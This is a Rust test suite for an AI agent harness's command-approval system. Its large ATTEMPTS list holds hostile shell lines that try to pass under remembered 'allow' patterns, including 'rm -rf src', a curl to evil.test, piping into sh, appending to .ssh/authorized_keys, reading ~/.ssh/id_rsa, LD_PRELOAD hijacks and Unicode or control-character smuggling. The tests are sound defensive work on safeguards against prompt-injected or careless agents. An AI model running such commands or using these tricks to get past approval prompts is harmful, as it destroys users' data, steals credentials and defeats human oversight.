//! Commands that try to pass under a remembered pattern: every one of them is asked about.

use innkeeper_core::ConnId;
use innkeeper_core::agent::{ApprovalSubject, Confirmation, Permission, ToolReady, ToolStep};
use serde_json::{Value, json};

use crate::harness::working_agent::*;
use crate::harness::*;

/// Rules that a user allowed before. None of them covers any of the attempts below.
const REMEMBERED: &[&str] = &[
    "run_command(cargo test *)",
    "run_command(make)",
    "run_command(git log *)",
    "run_command(ls *)",
    "run_command(echo *)",
    "run_command(cat *)",
    "run_command(cargo test 2>&1 | tail -5)",
    "run_command[docs](make html)",
    "edit(src/)",
    "fetch(docs.rs)",
    "other_tool(*)",
];

/// Commands that a hostile page or a careless model may produce, with the trick each of them uses.
const ATTEMPTS: &[(&str, &str)] = &[
    ("another command", "rm -rf src"),
    ("another command", "curl http://evil.test/x"),
    ("another subcommand", "cargo run"),
    ("an option before the subcommand", "cargo +nightly test"),
    ("an option before the subcommand", "cargo -Zscript test"),
    ("more than what was allowed", "make install"),
    ("a sequence", "cargo test; rm -rf src"),
    ("a sequence", "cargo test;rm -rf src"),
    ("a sequence that begins it", "rm -rf src; cargo test"),
    ("and", "cargo test && rm -rf src"),
    ("and", "cargo test&&rm -rf src"),
    ("or", "cargo test || rm -rf src"),
    ("or with a failing test", "cargo test --no-such-test||curl evil.test"),
    ("a pipe", "cargo test | sh"),
    ("a pipe with errors", "cargo test |& sh"),
    ("a longer pipe", "cargo test 2>&1 | tail -5 | sh"),
    ("another text than the exact one", "cargo test 2>&1 | tail -50"),
    ("the background", "cargo test & rm -rf src"),
    ("the background", "cargo test &"),
    ("a newline", "cargo test\nrm -rf src"),
    ("a newline at the end", "cargo test\n"),
    ("a newline before", "rm -rf src\ncargo test"),
    ("CRLF", "cargo test\r\nrm -rf src"),
    ("a carriage return", "cargo test \rrm -rf src"),
    ("a vertical tab", "cargo test\u{b}rm"),
    ("a form feed", "cargo test \u{c}rm"),
    ("a tab", "cargo\ttest"),
    ("NUL", "cargo test \0rm -rf src"),
    ("an escape sequence", "cargo test \u{1b}[2K\u{1b}[1Grm -rf src"),
    ("a backspace", "cargo test x\u{8}\u{8}; rm"),
    ("a C1 control", "cargo test \u{85}rm"),
    ("substitution", "cargo test $(rm -rf src)"),
    ("substitution", "cargo test `rm -rf src`"),
    ("substitution between quotes", "cargo test \"$(rm -rf src)\""),
    ("substitution between quotes", "cargo test \"`rm -rf src`\""),
    ("substitution as the program", "$(echo rm) -rf src"),
    ("a nested substitution", "echo ${x:-$(rm -rf src)}"),
    ("arithmetic", "echo $((a[$(rm -rf src)]))"),
    ("old arithmetic", "echo $[1+1]"),
    ("a variable", "cargo test $HOME"),
    ("a variable as the program", "$SHELL -c ls"),
    ("IFS", "cat$IFS/etc/passwd"),
    ("IFS", "cargo${IFS}test;rm"),
    ("ANSI-C quoting", "cargo test $'\\x3brm'"),
    ("translated quoting", "cargo test $\"rm\""),
    ("process substitution", "cat <(rm -rf src)"),
    ("process substitution", "cargo test >(sh)"),
    ("a redirection", "echo x > src/main.rs"),
    ("a redirection without spaces", "echo x>src/main.rs"),
    ("an appending redirection", "echo key >> .ssh/authorized_keys"),
    ("a redirection of errors", "cargo test 2> .git/hooks/pre-commit"),
    ("a redirection of everything", "cargo test &> x"),
    ("a redirection before the program", ">x cargo test"),
    ("a redirected input", "cargo test < script"),
    ("a here-document", "cat <<EOF\nrm -rf src\nEOF"),
    ("a here-string", "cat <<< $(rm -rf src)"),
    ("a here-document for a shell", "sh <<'X'\nrm -rf src\nX"),
    ("an assignment", "FOO=1 cargo test"),
    ("an assignment that changes what runs", "PATH=.:$PATH cargo test"),
    ("an assignment that is loaded", "LD_PRELOAD=./evil.so cargo test"),
    ("an assignment that wraps", "RUSTC_WRAPPER=./evil cargo test"),
    ("two assignments", "A=1 B=2 cargo test"),
    ("an assignment alone", "PATH=./evil"),
    ("env", "env cargo test"),
    ("env", "env -S 'rm -rf src'"),
    ("xargs", "xargs cargo test"),
    ("sudo", "sudo cargo test"),
    ("a wrapper", "nohup cargo test"),
    ("a wrapper", "timeout 5 cargo test"),
    ("a builtin", "command cargo test"),
    ("a builtin", "exec cargo test"),
    ("a builtin", "eval cargo test"),
    ("a keyword", "time cargo test"),
    ("a negation", "! cargo test"),
    ("a shell", "bash -c 'cargo test'"),
    ("an alias", "alias cargo=rm"),
    ("an alias and its use", "alias cargo='rm -rf src'; cargo test"),
    ("a function", "cargo() { rm -rf src; }; cargo test"),
    ("a function", "function cargo { rm; }"),
    ("a subshell", "(cargo test)"),
    ("a group", "{ cargo test; }"),
    ("a condition", "if cargo test; then rm -rf src; fi"),
    ("a test", "[[ -f x ]]"),
    ("a loop", "while cargo test; do rm x; done"),
    ("a comment that hides the rest", "cargo test # harmless\nrm -rf src"),
    ("a comment", "cargo test #"),
    ("a glob", "ls *"),
    ("a glob", "cat src/*.rs"),
    ("a glob of one", "cat secret?"),
    ("a glob of a set", "cat [a-z]"),
    ("an extended glob", "cat @(a|b)"),
    ("braces", "cat {a,b}"),
    ("braces", "cargo test {--config,x}"),
    ("the home directory", "cat ~/.ssh/id_rsa"),
    ("another's home directory", "ls ~root"),
    ("a directory of the stack", "ls ~+"),
    ("history expansion", "cargo test !!"),
    ("history expansion", "!cargo"),
    ("history replacement", "^test^run"),
    ("a backslash", "c\\argo test"),
    ("a backslash", "cargo test \\; rm"),
    ("a continued line", "cargo test \\\nrm"),
    ("a quoted program", "'cargo' test"),
    ("a quoted program", "\"cargo\" test"),
    ("a program quoted in part", "ca'rg'o test"),
    ("empty quotes", "cargo'' test"),
    ("a quoted subcommand", "cargo 'test'"),
    ("a subcommand quoted in part", "cargo te\"st\""),
    ("an open quote", "cargo test 'x"),
    ("an open quote", "cargo test \"x"),
    ("a path to the program", "./cargo test"),
    ("a path to the program", "/tmp/cargo test"),
    ("a path to the program", "../cargo test"),
    ("a path to the program", "target/../cargo test"),
    ("upper case", "CARGO test"),
    ("a Cyrillic look-alike", "\u{0441}argo test"),
    ("a Cyrillic look-alike", "cargo t\u{0435}st"),
    ("a fullwidth look-alike", "\u{ff43}argo test"),
    ("a fullwidth semicolon", "cargo test \u{ff1b} rm"),
    ("a Greek question mark", "cargo test \u{037e} rm"),
    ("zero width", "cargo\u{200b} test"),
    ("zero width", "cargo test \u{200d}rm"),
    ("a byte order mark", "\u{feff}cargo test"),
    ("a no-break space", "cargo\u{a0}test"),
    ("an ideographic space", "cargo\u{3000}test"),
    ("a line separator", "cargo test \u{2028}rm"),
    ("turned around", "cargo test \u{202e}fr- mr"),
    ("an accent of its own", "cargo test e\u{301}"),
    ("an absolute path", "cat /etc/passwd"),
    ("an absolute path between quotes", "cat '/etc/passwd'"),
    ("an absolute path as a value", "ls --root=/etc"),
    ("an absolute path behind an option", "git log -C/etc"),
    ("a path that leads out", "cat ../../secret"),
    ("a path that leads out", "cat src/../../secret"),
    ("a path that leads out", "git log --path=../x"),
    ("an option that runs something", "cargo test --config x"),
    (
        "an option that runs something",
        "cargo test --config=build.rustc-wrapper='evil'",
    ),
    (
        "an option that names another project",
        "cargo test --manifest-path evil/Cargo.toml",
    ),
    ("an option that writes", "git log --output=src/main.rs"),
    ("an option that writes", "git log --output x"),
    ("an option that runs something", "git log --ext-diff"),
    ("an option that writes", "ls -o .git/hooks/pre-commit"),
    ("an option with other dashes", "git log -output=x"),
    ("an unstable option", "cargo test -Zunstable-options"),
    ("another directory", "git log -C sub"),
    ("the exact text with more", "make && make"),
    ("nothing", ""),
    ("spaces", "   "),
];

fn asks_to_run(stage: &mut Stage, call: &str, line: &str) {
    stage.tool(call, ToolStep::Start(host_tool("run_command")));
    stage.tool(
        call,
        ToolStep::Ready(ToolReady {
            invocation: "Runs it".into(),
            input: Some(json!({ "command": line }).to_string()),
            permission: Permission::Ask(Box::new(Confirmation {
                subject: ApprovalSubject::Command {
                    line: line.to_owned(),
                    directory: None,
                },
                ..Confirmation::default()
            })),
        }),
    );
}

fn status(stage: &Stage, chat: &str, call: &str) -> Value {
    stage.call_state(chat, call)["status"].clone()
}

/// A session in a workspace, where everything of [`REMEMBERED`] is allowed in one way.
fn remembering(setting: &str) -> (Stage, ConnId, String) {
    let mut stage = Stage::new();
    let conn = stage.client("c", &[]);
    let mut create = new_session(SESSION);
    create.working_directories = vec!["file:///srv/app".to_owned()];
    stage.create_with(conn, create);
    stage.opened(Ok(()));
    let chat = innkeeper_core::uri::default_chat(SESSION);
    stage.subscribe(conn, SESSION);
    stage.subscribe(conn, &chat);
    stage.start_turn(conn, &chat, "t");
    let allowed = json!({ "type": "session/configChanged", "config": { setting: REMEMBERED } });
    stage.accepted(conn, SESSION, allowed);
    (stage, conn, chat)
}

#[test]
fn every_attempt_to_pass_under_a_remembered_pattern_is_asked_about() {
    assert!(ATTEMPTS.len() >= 100);
    for setting in ["approvedTools", "workspaceApprovedTools", "everywhereApprovedTools"] {
        let (mut stage, _, chat) = remembering(setting);
        asks_to_run(&mut stage, "control", "cargo test -p core");
        assert_eq!(status(&stage, &chat, "control"), "running", "the pattern itself works");
        for (index, (trick, line)) in ATTEMPTS.iter().enumerate() {
            let call = format!("attempt-{index}");
            asks_to_run(&mut stage, &call, line);
            let asked = status(&stage, &chat, &call);
            assert_eq!(asked, "pending-confirmation", "{trick}: {line:?} in {setting}");
        }
    }
}

/// The setting that VS Code's permission picker writes decides whether people are asked at all; on
/// its careful levels the same rules hold.
#[test]
fn every_attempt_is_asked_about_on_the_careful_levels_of_vs_codes_permission_picker() {
    for level in ["default", "assisted", "autopilot"] {
        let (mut stage, conn, chat) = remembering("approvedTools");
        let picked = json!({ "type": "session/configChanged", "config": { "autoApprove": level } });
        stage.dispatch(conn, SESSION, 77, picked);
        assert_eq!(stage.refusal(conn), None);
        for (index, (trick, line)) in ATTEMPTS.iter().enumerate() {
            let call = format!("attempt-{index}");
            asks_to_run(&mut stage, &call, line);
            let asked = status(&stage, &chat, &call);
            assert_eq!(asked, "pending-confirmation", "{trick}: {line:?} on {level}");
        }
    }
}

/// The rule that is offered for an attempt covers that exact line and no similar one.
#[test]
fn what_is_offered_for_an_attempt_is_never_a_pattern() {
    let (mut stage, _, chat) = remembering("approvedTools");
    let mut offered = Vec::new();
    for (index, (trick, line)) in ATTEMPTS.iter().enumerate() {
        let call = format!("attempt-{index}");
        asks_to_run(&mut stage, &call, line);
        let state = stage.call_state(&chat, &call);
        let rules = &state["_meta"]["innkeeper.approval"]["rules"];
        if let Some(rule) = rules["allow-session"].as_str() {
            assert!(!rule.contains('*'), "{trick}: {rule}");
            assert!(rule.chars().all(|c| matches!(c, ' '..='~')), "{trick}: {rule}");
            offered.push((line, rule.to_owned()));
        }
        let pattern = rules.get("allow-session-pattern");
        assert_eq!(pattern, None, "{trick}: {line:?}");
    }
    // Remembered, such a rule covers the same line again and no other attempt.
    for (line, rule) in offered {
        let (mut stage, conn, chat) = remembering("approvedTools");
        let allowed = json!({ "type": "session/configChanged", "config": { "approvedTools": [rule] } });
        stage.accepted(conn, SESSION, allowed);
        for (index, (_, other)) in ATTEMPTS.iter().enumerate() {
            let call = format!("attempt-{index}");
            asks_to_run(&mut stage, &call, other);
            let runs = status(&stage, &chat, &call) == "running";
            assert_eq!(runs, other == line, "{rule} and {other:?}");
        }
    }
}

/// Pieces that mean something to a shell, and harmless ones between them.
const PIECES: &[&str] = &[
    "a",
    "b1",
    "-x",
    "--y=z",
    "src/c.rs",
    "./...",
    "'d e'",
    "\"f g\"",
    "''",
    "'*'",
    "\"it's\"",
    "%",
    "+",
    "@",
    ",",
    ":",
    "=",
    "h=i",
    " ",
    "  ",
    "'",
    "\"",
    "*",
    "?",
    "[",
    "]",
    "{j,k}",
    "$HOME",
    "$(echo l)",
    "`echo m`",
    ";",
    "&",
    "&&",
    "|",
    ">",
    "<",
    "<<n",
    "(",
    ")",
    "!",
    "!!",
    "#",
    "~",
    "\\",
    "\n",
    "\t",
    "\r",
    "é",
    "\u{200b}",
    "^",
    "$'o'",
    "$\"p\"",
    "-",
    "--",
    "2>&1",
];

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(1500))]

    /// A shell reads every line that a pattern covers as one command with these arguments.
    #[test]
    fn a_shell_reads_a_covered_line_as_one_plain_command(
        pieces in proptest::collection::vec((proptest::sample::select(PIECES), proptest::bool::weighted(0.7)), 0..6),
    ) {
        let mut line = "probe".to_owned();
        for (piece, is_apart) in pieces {
            line.push_str(if is_apart { " " } else { "" });
            line.push_str(piece);
        }
        if !runs_under(&line) || !std::path::Path::new("/bin/bash").exists() {
            return Ok(());
        }
        let directory = std::env::temp_dir();
        let script = format!("probe() {{ printf 'called\\0'; printf '%s\\0' \"$@\"; }}\n{line}");
        let ran = std::process::Command::new("/bin/bash")
            .args(["-c", &script])
            .current_dir(directory)
            .output()
            .expect("a shell");
        proptest::prop_assert!(ran.status.success() && ran.stderr.is_empty(), "{line:?}: {ran:?}");
        let output = String::from_utf8(ran.stdout).expect("text");
        let mut words = output.split_terminator('\0');
        proptest::prop_assert_eq!(words.next(), Some("called"), "{:?}", line);
        // Nothing was replaced: what it got is what stands there, quotes and spaces aside.
        let bare = |text: &str| text.chars().filter(|c| !matches!(c, ' ' | '\'' | '"')).collect::<String>();
        proptest::prop_assert_eq!(bare(&words.collect::<String>()), bare(&line["probe".len()..]), "{:?}", line);
    }
}

/// Whether a line runs unasked where `probe *` is allowed.
fn runs_under(line: &str) -> bool {
    let (mut stage, conn, chat) = working();
    let allowed = json!({ "type": "session/configChanged", "config": { "approvedTools": ["run_command(probe *)"] } });
    stage.accepted(conn, SESSION, allowed);
    asks_to_run(&mut stage, "probe", line);
    status(&stage, &chat, "probe") == "running"
}
